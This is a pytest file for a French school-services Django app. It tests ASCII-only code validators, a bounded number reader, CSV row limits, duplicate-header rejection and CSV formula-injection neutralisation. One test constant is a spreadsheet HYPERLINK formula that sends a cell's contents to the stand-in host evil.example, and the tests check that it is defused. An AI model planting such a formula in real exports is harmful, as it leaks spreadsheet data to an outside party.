"""The shared pieces of every import and export: the code validators (ASCII digits only), the bounded
number reader, the row limit and the CSV writer that keeps spreadsheets from running formulas."""

import csv
import io

import pytest
from django.core.exceptions import ValidationError

from mon_enfant.csvfiles import ImportFileError, bounded_integer, neutralise_formula, read_csv, write_csv
from mon_enfant.validators import (
    is_valid_insee,
    is_valid_postcode,
    is_valid_siret,
    is_valid_uai,
    validate_code_insee,
    validate_postcodes,
    validate_siret,
    validate_uai,
)

ARABIC_EIGHT, FULLWIDTH_FIVE = "\u0668", "\uff15"


@pytest.mark.parametrize(
    ("is_valid", "validator", "good"),
    [
        (is_valid_insee, validate_code_insee, "35288"),
        (is_valid_uai, validate_uai, "0350916F"),
        (is_valid_siret, validate_siret, "21350288900012"),
        (is_valid_postcode, validate_postcodes, "35400"),
    ],
)
def test_every_code_accepts_ascii_digits_and_refuses_other_scripts_and_a_final_newline(is_valid, validator, good):
    assert is_valid(good)
    validator(good)
    for bad in (good[:-2] + ARABIC_EIGHT + good[-1], FULLWIDTH_FIVE + good[1:]):
        assert not is_valid(bad), bad
        with pytest.raises(ValidationError):
            validator(bad)
    # A field of several postcodes splits on spaces; a single code does not.
    for bad in (good + "\n", " " + good):
        assert not is_valid(bad)


@pytest.mark.parametrize(("text", "value"), [("42", 42), ("0042", 42), (" 7 ", 7), ("99999", 99999)])
def test_bounded_integer_reads_ascii_digits(text, value):
    assert bounded_integer(text, 5) == value


@pytest.mark.parametrize("text", ["", "100000", "9" * 5000, "4" + ARABIC_EIGHT, "-1", "1.5", "²"])
def test_bounded_integer_refuses_what_is_longer_than_its_domain_or_not_ascii_digits(text):
    assert bounded_integer(text, 5) is None


def test_a_csv_file_longer_than_the_row_limit_is_refused_and_blank_lines_do_not_count(settings):
    settings.MON_ENFANT_IMPORT_MAX_ROWS = 2
    assert len(read_csv(b"a;b\n1;2\n\n\n3;4\n").rows) == 2
    with pytest.raises(ImportFileError, match="plus de 2 lignes"):
        read_csv(b"a;b\n1;2\n3;4\n5;6\n")


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+33 2 99 00 00 00", "'+33 2 99 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Cantine", "Cantine"),
        ("École = cantine", "École = cantine"),
        ("", ""),
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(text, written):
    assert neutralise_formula(text) == written


def test_written_csv_neutralises_text_cells_and_keeps_number_cells_numbers():
    text = write_csv(["name", "price"], [{"name": FORMULA, "price": "-1.50"}, {"name": "-1.50", "price": "2"}],
                     number_columns=["price"])
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["name", "price"], ["'" + FORMULA, "-1.50"], ["'-1.50", "2"]]


@pytest.mark.parametrize("header", ["code_insee;prix;prix", "nom;Année;annee", "uai; UAI ;nom"])
def test_a_header_naming_a_column_twice_is_refused_on_line_1(header):
    """The probe's "DOUBLON": which column an importer read was a guess, the other's values were dropped."""
    with pytest.raises(ImportFileError) as refused:
        read_csv(f"{header}\n1;2;3\n".encode())
    [error] = refused.value.errors
    assert error.line == 1 and "figure deux fois" in error.message


def test_a_header_with_distinct_columns_is_read():
    assert read_csv(b"uai;nom;annee\n1;2;3\n").columns == ["uai", "nom", "annee"]
